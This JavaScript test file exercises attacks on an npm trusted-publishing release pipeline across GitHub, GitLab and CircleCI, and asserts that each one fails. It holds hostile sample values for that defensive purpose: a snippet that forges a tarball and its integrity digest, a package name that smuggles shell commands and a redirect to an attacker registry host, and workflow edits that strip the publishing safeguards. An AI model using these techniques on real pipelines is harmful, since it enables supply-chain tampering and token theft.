// Attacks that must get nothing: hostile code in the pack job, hostile names, a poisoned cache, forks and branches.
import assert from 'node:assert/strict'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { HOSTILE_MESSAGE, HOSTILE_REF, lootOf, REWRITER, stealing } from '../fixtures/hostile.mjs'
import { single } from '../fixtures/index.mjs'
import { git } from '../project.mjs'
import { scenario } from '../scenario.mjs'
import { inTurn, test } from '../suite.mjs'

const PROVIDERS = ['github', 'gitlab', 'circleci']
const every = (name, body, providers = PROVIDERS) => providers.forEach((provider) => test(`attack: ${provider}, ${name}`, () => body(provider)))
// What the pack program alone meets.
const one = (row, name, body) => every(name, body, PROVIDERS.filter((_, column) => inTurn(row, column)))

every("a dependency's postinstall looks for an identity", (provider) => {
  return scenario(provider, stealing, {}, async (s) => {
    const outcome = await s.run()
    const found = lootOf(s, outcome)
    assert.ok(found.includes('done'), 'the script ran')
    assert.deepEqual(found.filter((text) => /^(works|credential|exchange: 2)/.test(text)), [], 'nothing that works was found')
    assert.deepEqual(found.filter((text) => /replaced|planted/.test(text)), [], 'nothing planted reaches the publish job')
    // CircleCI lets any job ask for an id token; without the context the registry refuses it.
    const early = s.exchanges().filter(({ status }) => status !== 201)
    assert.deepEqual(early.map(({ note }) => note), provider === 'circleci' ? ['context-ids'] : [])
    assert.equal(outcome.status, 0, 'the release itself is unharmed')
    assert.deepEqual(s.published(), ['acme-demo@1.1.0'])
  })
})

one(0, 'a test script rewrites the tarball after packing', (provider) => scenario(provider, single, { files: { 'test.mjs': REWRITER } }, async (s) => {
  const outcome = await s.run()
  assert.notEqual(outcome.status, 0)
  assert.match(outcome.output, /integrity|sha512|digest/i)
  assert.deepEqual(s.published(), [])
  assert.deepEqual(s.exchanges(), [], 'no token is even asked for')
}))

// GitHub hands the manifest's digest over by another way than the files, so even a rewritten manifest is noticed.
const FORGER = REWRITER.replace("fs.appendFileSync(path.join(folder, file), 'evil')", `{
          const crypto = require('crypto'), manifest = JSON.parse(fs.readFileSync(path.join(folder, 'manifest.json')))
          // One more empty gzip member: other bytes, still a good tarball.
          fs.appendFileSync(path.join(folder, file), require('zlib').gzipSync(''))
          const data = fs.readFileSync(path.join(folder, file))
          Object.assign(manifest.packages[0], { integrity: 'sha512-' + crypto.createHash('sha512').update(data).digest('base64'), size: data.length })
          fs.writeFileSync(path.join(folder, 'manifest.json'), JSON.stringify(manifest))
        }`)
test('attack: github, a test script rewrites the tarball and the manifest after packing', () =>
  scenario('github', single, { files: { 'test.mjs': FORGER } }, async (s) => {
    const outcome = await s.run()
    assert.notEqual(outcome.status, 0)
    assert.match(outcome.output, /manifest/i)
    assert.deepEqual([s.published(), s.exchanges()], [[], []])
  }))

every('a hostile tag name and commit message', (provider) => {
  return scenario(provider, single, { message: HOSTILE_MESSAGE }, async (s) => {
    const hostile = await s.run({ ref: `refs/tags/${HOSTILE_REF}` })
    assert.equal(hostile.triggered, true)
    const outcome = await s.run()
    assert.equal(outcome.status, 0, 'neither name nor message harms anything')
    assert.deepEqual(s.published(), ['acme-demo@1.1.0'], 'what the commit says, once')
    assert.deepEqual(s.files('pwned'), [])
  })
})

every('a hostile branch name, with the filters deleted', (provider) => scenario(provider, single, {
  edit: (text) => ({
    github: (it) => it.replace(/^ {2}push:\n {4}tags:\n {6}- .*$/m, '  push:'), gitlab: (it) => it.replace(/^ +rules:\n +- if: .*\n/gm, ''),
    circleci: (it) => it.replace(/^ *filters: .*\n/gm, ''),
  }[provider](text)),
}, async (s) => {
  const outcome = await s.run({ ref: `refs/heads/${HOSTILE_REF}` })
  assert.equal(outcome.triggered, true)
  assert.notEqual(outcome.status, 0)
  assert.deepEqual([s.published(), s.exchanges(), s.files('pwned')], [[], [], []])
}))

// The tests rewrite package.json, so that the pack step is the first to meet the name.
const NAME = 'acme-demo$(touch pwned)`touch pwned`\n::add-path::/tmp\n--registry=https://npm.mallory.example'
const RENAMER = `import { readFileSync, writeFileSync } from 'node:fs'
const manifest = JSON.parse(readFileSync('package.json', 'utf8'))
writeFileSync('package.json', JSON.stringify({ ...manifest, name: ${JSON.stringify(NAME)} }))
`
one(1, 'a hostile package name', (provider) => scenario(provider, single, { files: { 'test.mjs': RENAMER } }, async (s) => {
  const outcome = await s.run()
  assert.notEqual(outcome.status, 0)
  assert.deepEqual([s.published(), s.exchanges(), s.files('pwned')], [[], [], []])
  assert.match(outcome.output, /Fix: /)
  assert.doesNotMatch(outcome.output, /^(\[.*\] *)?(\| *)?::add-path::/m, 'no command of the runner is made of it')
}))

every('a poisoned cache', (provider) => {
  const fixture = { more: { packageManager: 'npm@11.17.0' } }
  return scenario(provider, single, { fixture }, async (s) => {
    const folder = s.folder('cache')
    mkdirSync(folder, { recursive: true })
    writeFileSync(join(folder, 'POISON'), 'from a pull request')
    const outcome = await s.run({ cache: { folder, path: '.npm-cache' } })
    assert.equal(outcome.status, 0)
    assert.deepEqual(s.files('POISON'), [join(folder, 'POISON')], 'no job restores a cache')
    assert.deepEqual(s.published(), ['acme-demo@1.1.0'])
  })
})

test("attack: github, a fork's pull request", () => scenario('github', single, {}, async (s) => {
  const event = { name: 'pull_request', fork: true }
  const calm = await s.run({ ref: 'refs/pull/1/merge', event })
  assert.equal(calm.triggered, false, 'it does not run at all')
}))

test("attack: github, a fork's pull request that rewrites the workflow", () => scenario('github', single, {
  edit: (text) => text.replace(/^ {2}push:\n {4}tags:\n {6}- .*$/m, '  pull_request:').replace(/^ *environment: .*\n/m, ''),
}, async (s) => {
  const outcome = await s.run({ ref: 'refs/pull/1/merge', event: { name: 'pull_request', fork: true } })
  assert.equal(outcome.triggered, true)
  assert.notEqual(outcome.status, 0)
  assert.deepEqual([s.published(), s.exchanges()], [[], []])
}))

// Someone who may push a branch writes a workflow of their own into it.
const RAW = 'npm publish ./npm-tarballs/*.tgz --ignore-scripts --loglevel silly'
const raw = (text) => text.replace(/^( +)node --input-type=module - <<'TRUSTPUB_PUBLISH'\n[^]*?^ +TRUSTPUB_PUBLISH$/m, `$1${RAW}`)
for (const [what, change, note] of [
  ['with the environment kept', (text) => text, null],
  ['with the environment deleted', (text) => text.replace(/^ *environment: .*\n/m, ''), 'environment'],
]) {
  test(`attack: github, a branch with the trigger and the checks deleted, ${what}`, () => scenario('github', single, {
    edit: (text) => raw(change(text.replace(/^ {2}push:\n {4}tags:\n {6}- .*$/m, '  push:'))),
  }, async (s) => {
    const outcome = await s.run({ ref: 'refs/heads/feature' })
    assert.equal(outcome.triggered, true)
    assert.notEqual(outcome.status, 0)
    assert.deepEqual(s.published(), [])
    assert.deepEqual(s.exchanges().map((entry) => entry.note), note ? [note] : [], 'refused by the environment, or by the registry')
  }))
}

test('attack: circleci, a branch with filter, context and checks deleted', () => scenario('circleci', single, {
  edit: (text) => text.replace(/^ *(filters|context): .*\n/gm, '')
    .replace(/^( +)node --input-type=module - \\<<'TRUSTPUB_PUBLISH'\n[^]*?^ +TRUSTPUB_PUBLISH$/m,
      '$1export NPM_ID_TOKEN="$(circleci run oidc get --claims "{\\"aud\\":\\"$TRUSTPUB_AUDIENCE\\"}")"\n$1cd /tmp; npm publish ./npm-tarballs/*.tgz --loglevel silly'),
}, async (s) => {
  const outcome = await s.run({ ref: 'refs/heads/feature' })
  assert.notEqual(outcome.status, 0)
  assert.deepEqual(s.exchanges().map(({ status, note }) => [status, note]), [[404, 'context-ids']])
  assert.deepEqual(s.published(), [])
}))

test('attack: gitlab, an unprotected branch with the rules and checks deleted', () => scenario('gitlab', single, {
  edit: (text) => text.replace(/^ +rules:\n +- if: .*\n/gm, '').replace(/^ +environment:.*\n +name: .*\n +deployment_tier: .*\n/m, '')
    .replace(/^( +)- \|\n +node --input-type=module - <<'TRUSTPUB_PUBLISH'\n[^]*?^ +TRUSTPUB_PUBLISH$/m,
      '$1- npm publish ./.npm-tarballs/*.tgz --ignore-scripts --loglevel silly'),
}, async (s) => {
  const outcome = await s.run({ ref: 'refs/heads/feature' })
  assert.notEqual(outcome.status, 0)
  assert.deepEqual(s.exchanges().map(({ status, note }) => [status, note]), [[404, 'environment']])
  assert.deepEqual(s.published(), [])
}))

test("attack: gitlab, a fork's pipeline", () => scenario('gitlab', single, {}, async (s) => {
  const outcome = await s.run({ event: { fork: true } })
  assert.equal(outcome.triggered, false, 'its tags are not protected')
  assert.deepEqual(s.exchanges(), [])
}))

test('attack: github, a fork of the repository publishes with its own identity', () => scenario('github', single, {}, async (s) => {
  git(s.project.path, 'remote', 'set-url', 'origin', 'https://github.com/mallory/demo.git')
  const outcome = await s.run({ repository: 'mallory/demo' })
  assert.notEqual(outcome.status, 0)
  assert.deepEqual(s.published(), [])
  assert.ok(s.exchanges().every(({ status }) => status === 404))
}))
